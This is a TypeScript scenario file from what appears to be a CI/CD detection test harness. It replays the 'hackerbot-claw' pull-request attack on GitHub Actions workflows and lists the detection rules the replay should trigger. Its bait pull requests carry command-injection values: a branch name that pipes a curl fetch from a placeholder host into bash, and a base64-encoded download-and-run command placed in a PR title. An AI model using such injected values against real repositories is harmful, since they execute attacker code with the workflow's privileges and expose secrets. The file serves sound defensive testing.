import { headOf, inventory } from './baseline.ts';
import { forked, openedWithRun, reviewedChange, runOf, type Workflow } from './github-acts.ts';
import { type ChangeOf, createStage, pullRequest, type Stage } from './github-bodies.ts';
import type { Cast, Scenario, ScenarioStep } from './scenario.ts';

const [agent, scanner, list] = ['discovery-agent', 'iac-scanner', 'awesome-list'] as const;
const bot = 'hackerbot-claw';
const author = 'avi-author';
const reviewer = 'zoe-reviewer';
const privilegedRun = (repository: string, name: string, file: string): Workflow => ({
  ...{ repository, name, path: `.github/workflows/${file}`, trigger: 'pull_request_target', job: 'check' },
});
const workflows = {
  [agent]: privilegedRun(agent, 'Format', 'format.yml'),
  [scanner]: privilegedRun(scanner, 'Sync rules', 'sync-rules.yml'),
  [list]: privilegedRun(list, 'PR quality checks', 'pr-quality-checks.yml'),
};

function change(stage: Stage, of: Pick<ChangeOf, 'repository' | 'number' | 'title' | 'branch'>): ChangeOf {
  return {
    ...{ ...of, author: bot, association: 'NONE', fork: true },
    ...{ head: stage.sha(`bait in ${of.repository}`), base: headOf(stage, of.repository) },
  };
}
const work = (stage: Stage, from: { fork: boolean }): ChangeOf => ({
  ...{ repository: agent, number: 17, title: 'Format the docs', author, association: 'MEMBER', branch: 'format' },
  ...{ head: stage.sha('format'), base: headOf(stage, agent), ...from },
});

function attack(cast: Cast): ScenarioStep[] {
  const stage = createStage(cast);
  // As they were; only the addresses are a drill's.
  const baits = [
    change(stage, {
      ...{ repository: agent, number: 18, title: 'docs: fix formatting' },
      branch: `dev$({curl,-sSfL,hackmoltrepeat.example.com/molt}\${IFS}|\${IFS}bash)`,
    }),
    change(stage, {
      ...{ repository: scanner, number: 7, branch: 'docs-improvement' },
      title: `docs: $(echo\${IFS}Y3VybCAtc1NmTCBleGFtcGxlLmNvbQ==|base64\${IFS}-d|bash)`,
    }),
    change(stage, { repository: list, number: 6068, title: 'Add a link', branch: 'add-link' }),
  ];
  const says = [
    'its first pull request came, from a branch called like a command',
    'the next came to another repository, with a command in its title',
    'the next hid its command in a Go file that a check runs',
  ];
  return [
    ...openedWithRun(
      stage,
      { name: 'work', says: `${author} opened a pull request`, atMs: 50, runSays: 'its format was checked' },
      work(stage, { fork: false }),
      workflows[agent],
    ),
    ...baits.flatMap((bait, nth) => {
      const { repository } = bait;
      const [name, atMs] = [`bait-${nth + 1}`, 800 + 1400 * nth];
      return [
        forked(
          stage,
          { name: `fork-${nth + 1}`, says: `${bot} forked ${repository}`, atMs: atMs - 150 },
          { repository, by: bot },
        ),
        ...openedWithRun(
          stage,
          { name, says: says[nth]!, atMs, runSays: 'a workflow executed it, with the rights of the base' },
          bait,
          workflows[repository as keyof typeof workflows],
        ),
        pullRequest(stage, { name: `${name}-gone`, says: 'the pull request was closed', atMs: atMs + 900 }, 'closed', {
          ...bait,
          openedAtMs: atMs,
        }),
      ];
    }),
  ];
}

function benign(cast: Cast): ScenarioStep[] {
  const stage = createStage(cast);
  const one = work(stage, { fork: true });
  return [
    forked(
      stage,
      { name: 'fork', says: `${author} works in a fork of their own`, atMs: 100 },
      { repository: agent, by: author },
    ),
    ...reviewedChange(
      stage,
      { name: 'change', atMs: 400 },
      { ...one, files: ['docs/format.md'], reviewer, merge: stage.sha('merge of format') },
    ),
    ...runOf(stage, { name: 'run', says: 'its format was checked', atMs: 460 }, one, workflows[agent]),
  ];
}

export const hackerbotClaw: Scenario = {
  id: 'hackerbot-claw',
  title: 'hackerbot-claw, February 2026',
  breach: { number: 20, name: 'hackerbot-claw', date: '2026-02-21' },
  narrative:
    'For a week an account that called itself an autonomous security agent opened pull requests in well-known repositories, each fitted to a weak workflow there: a command in a branch’s name, in a title, in the name of a file, in a script that a check runs. ' +
    'From Trivy it took a token with which releases were deleted, and which a later breach used again. ' +
    'Played in three repositories of one organisation. Names of files in pull requests are not told by webhooks, and that variant is left out.',
  provenance: 'reconstructed',
  sources: [
    {
      title: 'Datadog: spotting CI/CD misconfigurations before the bots do',
      url: 'https://www.datadoghq.com/blog/github-actions-iac-security/',
    },
    {
      title: 'StepSecurity: hackerbot-claw, GitHub Actions exploitation',
      url: 'https://www.stepsecurity.io/blog/hackerbot-claw-github-actions-exploitation',
    },
  ],
  baseline: (cast) =>
    inventory(createStage(cast), {
      repositories: [agent, scanner, list],
      members: [
        { login: author, role: 'member' },
        { login: reviewer, role: 'admin' },
      ],
      withSecrets: { [scanner]: workflows[scanner].path },
    }),
  attack,
  benign,
  expects: [
    { rule: 'untrusted-metadata-injection', decidingStep: 'bait-1', responses: ['block-user'] },
    // That a workflow runs for such events there is seen with its first run, and the finding grows with it.
    { rule: 'untrusted-metadata-injection', decidingStep: 'bait-2', responses: ['block-user'] },
    { rule: 'privileged-fork-trigger', decidingStep: 'bait-2-run', responses: ['stop-run'] },
  ],
};
